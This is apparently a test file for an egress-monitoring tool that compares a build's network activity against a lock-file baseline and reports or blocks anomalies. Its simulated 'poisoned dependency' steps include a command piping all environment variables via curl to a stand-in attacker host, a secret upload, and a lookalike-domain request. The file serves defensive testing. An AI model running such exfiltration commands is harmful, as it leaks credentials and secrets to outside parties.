import { readFileSync } from 'node:fs'
import t from 'tap'
import { openLab } from '../lab/lab.ts'
import { whyNoLab } from '../lab/requirements.ts'
import { auditPolicy, blockPolicy, tidegate } from './behind.ts'
import type { Line } from './record-check.ts'
import { runSteps } from './steps.ts'

t.setTimeout(180_000)

const build = {
  fetch: 'curl -sS -o /dev/null https://npm.acme.test/bytes/100',
  again: 'curl -sS -o /dev/null https://npm.acme.test/bytes/200 https://cdn.acme.test/bytes/10',
} as const

/** What a poisoned dependency would do. */
const attack = {
  ...build,
  steal: 'printenv | curl -sS -m 5 -o /dev/null --data-binary @- https://collector.evil.test/collect',
  upload: 'curl -sS -m 5 -o /dev/null -d secret https://npm.acme.test/echo',
  other:
    'python3 -c "import urllib.request; urllib.request.urlopen(\\"https://npm.acme.test/bytes/9\\", timeout=5).read()"',
  lookalike: 'curl -sS -m 5 -o /dev/null https://npm.acme.tset/bytes/1',
} as const

/** In block mode everything that the attack needs is allowed: only the baseline stands in its way. */
const open = ['npm.acme.test', 'cdn.acme.test', '"**.evil.test"', 'npm.acme.tset']

const expected = [
  'near-host npm.acme.tset curl',
  'new-host collector.evil.test curl',
  'new-process npm.acme.test python',
  'new-upload npm.acme.test curl',
]

const alarms = (lines: readonly Line[]): readonly string[] =>
  lines
    .filter(({ event }) => event === 'anomaly')
    .map(
      ({ details, host, process }) =>
        `${String(details?.['kind'])} ${host} ${process?.exe
          .split('/')
          .at(-1)
          ?.replace(/[\d.]+$/, '')}`,
    )
    .toSorted()

await t.test('I9: what a build did not do before is told, and stopped', { skip: whyNoLab() }, async t => {
  await using lab = await openLab()
  await lab.serve('npm.acme.tset')
  const lock = lab.file('egress.lock')
  const tool = (...args: readonly string[]) => lab.host.exec(tidegate, args)
  const job = ['--job', 'build'] as const
  const compared = [...job, '--lock', lock] as const

  const first = await runSteps(lab, { policy: auditPolicy, steps: build, options: compared })
  t.match(first.stderr, /no baseline/, 'without a baseline it says so')
  t.same(alarms(first.lines), [])
  const made = await tool('lock', 'update', '--lock', lock, first.out)
  t.equal(made.exitCode, 0, made.stderr)
  t.match(
    readFileSync(lock, 'utf8'),
    /\{ to: npm\.acme\.test:443, does: read, by: \/usr\/bin\/curl, seen: every run \}/,
  )

  const second = await runSteps(lab, { policy: auditPolicy, steps: build, options: compared })
  t.same(alarms(second.lines), [], 'the same build is quiet')
  t.equal((await tool('lock', 'check', '--lock', lock, second.out)).exitCode, 0)
  t.equal((await tool('lock', 'update', '--lock', lock, second.out)).exitCode, 0)

  await t.test('in audit', async t => {
    const run = await runSteps(lab, { policy: auditPolicy, steps: attack, options: compared })
    t.same(alarms(run.lines), expected)
    t.not(await lab.sink.count({ port: 443 }), 0, 'nothing is refused')
    const checked = await tool('lock', 'check', '--lock', lock, run.out)
    t.equal(checked.exitCode, 1, checked.stderr)
    t.equal(checked.stdout.trimEnd().split('\n').length, 4, checked.stdout)
    const report = await tool('report', '--format', 'json', run.out)
    t.match(
      JSON.parse(report.stdout)
        .findings.map(({ kind }: { kind: string }) => kind)
        .toSorted(),
      ['near-host', 'new-host', 'new-process', 'new-upload'],
    )
  })

  const refusing: readonly (readonly [sentence: string, policy: string, options: readonly string[]])[] = [
    ['with anomalies: deny', blockPolicy(open, 'anomalies: deny\n'), compared],
    ['with --frozen', blockPolicy(open), [...compared, '--frozen']],
  ]
  for (const [sentence, policy, options] of refusing) {
    await t.test(`in block ${sentence}`, async t => {
      await lab.sink.clear()
      await lab.origins.clear()
      const run = await runSteps(lab, { policy, steps: attack, options })
      t.equal(run.step('fetch').exitCode, 0, run.step('fetch').stderr)
      t.equal(run.step('again').exitCode, 0, run.step('again').stderr)
      t.same(await lab.sink.lines(), [], 'nothing reached the attacker, no question either')
      t.same(await lab.origins.requests({ host: 'npm.acme.tset' }), [])
      t.same(
        (await lab.origins.requests({ host: 'npm.acme.test' })).map(({ path }) => path).toSorted(),
        ['/bytes/100', '/bytes/200'],
        'of the known host only what is known',
      )
      t.same(alarms(run.lines), expected)
      for (const line of run.lines.filter(({ verdict }) => verdict === 'deny'))
        t.equal(line.reason, 'denied-by-rule', JSON.stringify(line))
    })
  }

  await t.test('in audit, what is passed unopened as its certificate is not valid is told with who did it', async t => {
    const steps = { ...build, odd: 'curl -sSk -m 5 -o /dev/null https://self-signed.acme.test/' }
    const run = await runSteps(lab, { policy: auditPolicy, steps, options: compared })
    t.equal(run.step('odd').exitCode, 0, run.step('odd').stderr)
    t.same(alarms(run.lines), ['new-host self-signed.acme.test curl'])
  })

  await t.test('what cannot be compared does not start', async t => {
    const policy = blockPolicy(open, 'anomalies: deny\n')
    await t.rejects(runSteps(lab, { policy, steps: build, options: job }), /LOCK_INVALID/, 'no baseline')
    await t.rejects(
      runSteps(lab, { policy, steps: build, options: ['--job', 'other', '--lock', lock] }),
      /LOCK_INVALID/,
      'a job that it does not know',
    )
  })
})
